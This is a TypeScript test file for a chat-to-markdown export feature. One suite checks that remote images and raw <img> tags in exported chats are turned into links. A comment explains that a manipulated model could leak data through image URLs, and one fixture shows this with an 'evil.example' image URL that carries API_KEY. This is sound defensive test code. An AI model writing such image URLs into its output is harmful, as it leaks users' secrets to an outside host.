import assert from 'node:assert/strict';
import { chatToMarkdown, exportFileName } from '../../../src/core/chat/exportMarkdown';
import { formatFigures } from '../../../src/shared/present';
import { chatWith, msg } from './helpers';

describe('export to markdown', () => {
  it('writes the conversation with context, thinking, state and figures', () => {
    const chat = {
      ...chatWith('c', [
        msg('u', 'user', 'Why?', 1, { attachments: [{ id: 'a', kind: 'selection', label: 'a.ts:1', path: 'a.ts', language: 'ts', text: 'x()' }] }),
        msg('a', 'assistant', 'Because.', 2, {
          reasoning: 'think ``` hard',
          status: 'stopped',
          model: 'gpt-oss-120b',
          metrics: { completionTokens: 12, basis: 'server', model: 'gpt-oss-120b', tokensPerSecond: 512.3, timeToFirstTokenMs: 90, costUsd: 0.00002 },
        }),
        msg('e', 'assistant', '', 3, { status: 'error', error: { message: 'Rate limited.\nWait.' } }),
      ]),
      title: 'Why: a question?',
      createdAt: Date.UTC(2026, 0, 2, 3, 4),
    };
    const md = chatToMarkdown(chat, formatFigures);
    assert.ok(md.startsWith('# Why: a question?\n\n_2026-01-02 03:04 UTC · Meta-Llama-3.3-70B-Instruct_'));
    assert.match(md, /## You\n\nSelected code `a\.ts` \(a\.ts:1\):\n```ts\nx\(\)\n```\n\nWhy\?/);
    assert.match(md, /## SambaNova \(gpt-oss-120b\)/);
    assert.match(md, /<details><summary>Thinking<\/summary>\n\n````text\nthink ``` hard\n````/);
    assert.match(md, /Because\.\n\n_\(stopped\)_/);
    assert.match(md, /<sub>gpt-oss-120b · TTFT 0\.09 s · 512 tok\/s · 12 tokens · <\$0\.0001<\/sub>/);
    assert.match(md, /> \*\*Error:\*\* Rate limited\.\n> Wait\./);
    assert.equal(exportFileName(chat), 'why-a-question.md');
  });
});

describe('export keeps the network out', () => {
  // Markdown Preview loads remote images (and raw <img>): what a tricked model wrote into a URL
  // would leave the machine the moment the export is opened. The webview shows them as links;
  // so does the export.
  const exported = (text: string, role: 'user' | 'assistant' = 'assistant') => chatToMarkdown({ ...chatWith('c', [msg('a', role, text, 1)]), title: 't' }, formatFigures);

  it('turns a remote image into a link with its text', () => {
    const md = exported('Here: ![secret plot](https://evil.example/p.png?d=API_KEY) and ![](http://evil.example/x.gif "t").');
    assert.ok(md.includes('Here: [secret plot](https://evil.example/p.png?d=API_KEY) and [image](http://evil.example/x.gif "t").'), md);
    assert.doesNotMatch(md, /!\[/);
  });

  it('reference images, nested brackets and raw <img> tags load nothing either', () => {
    const md = exported('![a][ref] ![b [c] d](https://e.example/x.png) <img src="https://e.example/y.png"> <IMG\nsrc=x>\n\n[ref]: https://e.example/z.png');
    assert.ok(!/(^|[^\\])!\[/.test(md), md);
    assert.ok(!/<img/i.test(md), md);
    assert.match(md, /\\!\[a\]\[ref\]/);
    assert.match(md, /&lt;img src="https:\/\/e\.example\/y\.png">/);
  });

  it('leaves code as it was: fenced blocks (``` and ~~~, longer fences) and inline code spans', () => {
    const text = [
      'Use `![x](y)` in Markdown.',
      '',
      '````md',
      '```',
      '![inside](https://e.example/a.png) <img src=a>',
      '```',
      '````',
      '',
      '~~~',
      '![tilde](https://e.example/b.png)',
      '~~~',
      'after ![out](https://e.example/c.png)',
    ].join('\n');
    const md = exported(text);
    assert.ok(md.includes('Use `![x](y)` in Markdown.'), md);
    assert.ok(md.includes('```\n![inside](https://e.example/a.png) <img src=a>\n```'), md);
    assert.ok(md.includes('~~~\n![tilde](https://e.example/b.png)\n~~~'), md);
    assert.ok(md.includes('after [out](https://e.example/c.png)'), md);
  });

  it('an escaped \\! stays as it is, an escaped backslash before an image does not hide it', () => {
    const md = exported('a \\![x](https://e.example/1.png) b \\\\![y](https://e.example/2.png)');
    assert.ok(md.includes('a \\![x](https://e.example/1.png) b \\\\[y](https://e.example/2.png)'), md);
  });

  it('covers what the user wrote, the title and error messages too', () => {
    const chat = {
      ...chatWith('c', [msg('u', 'user', 'see ![u](https://e.example/u.png)', 1), msg('e', 'assistant', '', 2, { status: 'error', error: { message: 'bad ![e](https://e.example/e.png)' } })]),
      title: 'look ![t](https://e.example/t.png)',
    };
    const md = chatToMarkdown(chat, formatFigures);
    assert.ok(!/(^|[^\\])!\[/.test(md), md);
  });
});
